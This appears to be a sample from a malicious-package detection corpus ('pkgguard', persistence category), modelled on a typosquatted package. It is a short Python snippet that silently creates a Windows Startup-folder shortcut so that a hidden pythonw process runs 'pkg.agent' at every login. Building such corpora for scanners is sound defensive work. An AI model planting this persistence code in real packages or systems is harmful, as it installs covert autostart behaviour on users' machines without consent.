# pkgguard corpus 669 (persistence), modelled on [termncolor]; inert, never run.
import os
import sys

import win32com.client

shell = win32com.client.Dispatch("WScript.Shell")
folder = shell.SpecialFolders("Startup")
link = shell.CreateShortcut(os.path.join(folder, "PkgSync.lnk"))
link.TargetPath = sys.executable.replace("python.exe", "pythonw.exe")
link.Arguments = "-m pkg.agent"
link.save()
